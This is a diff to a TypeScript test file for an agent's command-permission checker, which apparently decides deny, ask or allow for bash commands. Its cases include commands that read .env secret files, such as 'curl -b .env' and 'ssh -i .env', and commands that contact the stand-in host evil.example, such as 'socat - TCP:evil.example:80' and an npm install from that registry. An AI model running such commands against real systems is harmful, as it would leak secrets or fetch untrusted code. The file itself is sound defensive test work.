@@ -139,6 +139,95 @@ check('net.fetch evil.example deny', 'ping -c 1 evil.example', 'deny');
 check('net.fetch evil.example deny', 'dig evil.example', 'deny');
 check('net.fetch evil.example deny', 'mytool --url=https://evil.example', 'deny');
 check('net.fetch evil.example deny', 'pip install https://evil.example/a.whl', 'deny');
+/** Programs that open a file in a way of their own: known readers are bound, the others ask. */
+for (const [programs, expected] of [
+  ['vim vi nvim ex ed emacs nano view less more most', 'deny'],
+  ['foo code cursor subl micro hx emacsclient gvim vimdiff editor gedit open', 'ask'],
+  ['man python3 docker lsof http socat', 'ask'],
+] as const) {
+  for (const program of programs.split(' '))
+    check('read **/.env deny', `${program} ./.env`, expected);
+}
+for (const command of [
+  'grep -e x .env',
+  'grep -ex .env',
+  'grep --regexp=x .env',
+  'grep -f p .env',
+  'rg -e x .env',
+  'rg --files .env',
+  'sed --expression=p .env',
+  'awk -f s .env',
+  'jq -f f .env',
+  'jq -n --rawfile a .env .',
+  'yq .env',
+  'patch .env',
+  'fd . .env',
+  'ssh -i .env h',
+  'curl -b .env a',
+  'dmesg -F .env',
+])
+  check(DENY, command, 'deny');
+for (const command of ['grep .env a', 'jq .env a', 'fd .env', 'sed s/a/.env/ a', 'awk .env a'])
+  check(DENY, command, 'allow');
+
+for (const command of [
+  'curl -s --url evil.example',
+  'curl --url=evil.example',
+  'curl --ur evil.example',
+  'openssl s_client -connect evil.example:443',
+  'openssl s_client -proxy evil.example:1',
+  'ssh -p 22 evil.example',
+  'ssh -Jevil.example a',
+  'foo https://evil.example/x',
+  'git push --repo=evil.example:x',
+  'tar xf evil.example:x',
+])
+  check('net.fetch evil.example deny', command, 'deny');
+for (const command of [
+  'foo evil.example',
+  'foo EVIL.example.',
+  'foo u@evil.example:p',
+  'foo evil.example:80',
+  'foo a@b@evil.example',
+  'foo //evil.example/x',
+  'foo "x evil.example"',
+  'foo a,evil.example',
+  'foo -h evil.example',
+  'foo -hevil.example',
+  'foo --host=evil.example',
+  'foo https://good.example,https://evil.example',
+  'mysql -h evil.example',
+  'nc -vz -w 3 evil.example 80',
+  'dig @evil.example a',
+  'sftp evil.example',
+  'http GET evil.example',
+  'git push evil.example',
+  'npm install --registry=evil.example',
+  'socat - TCP:evil.example:80',
+])
+  check('net.fetch evil.example deny', command, 'ask');
+for (const command of [
+  'foo notevil.example',
+  'foo evil.example.org',
+  'grep evil.example a',
+  'ls evil.example',
+])
+  check('net.fetch evil.example deny', command, 'allow');
+check('net.fetch *.evil.example deny', 'foo --host=a.evil.example', 'ask');
+check('net.fetch *.evil.example ask', 'foo a.EVIL.example:1', 'ask');
+check('web_fetch evil.example deny', 'foo evil.example', 'ask');
+check('net.fetch 203.0.113.7 deny', 'foo 203.0.113.7:80', 'ask');
+check('net.fetch 203.0.113.7 deny', 'foo 0xcb007107', 'ask');
+check('net.fetch [2001:db8::1] deny', 'foo [2001:DB8:0::1]:80', 'ask');
+check('net.fetch * deny', 'foo a.txt', 'allow');
+check('net.fetch evil.example allow', 'foo evil.example', 'allow');
+
+test('a narrower allow of a host holds for a program that is not known', async () => {
+  const rules = ['bash * allow', 'net.fetch *.example deny', 'net.fetch good.example allow'];
+  assert.equal((await judgeBash('foo good.example', rules)).decision, 'allow');
+  assert.equal((await judgeBash('foo bad.example', rules)).decision, 'ask');
+  assert.equal((await judgeBash('foo good.example:22', rules)).decision, 'ask');
+});
 check('web_fetch *.evil.example deny', 'curl https://a.evil.example', 'deny');
 check('net.fetch * deny', 'curl https://a.example', 'deny');
 check('net.fetch evil.example deny', 'curl https://good.example/evil.example', 'allow');
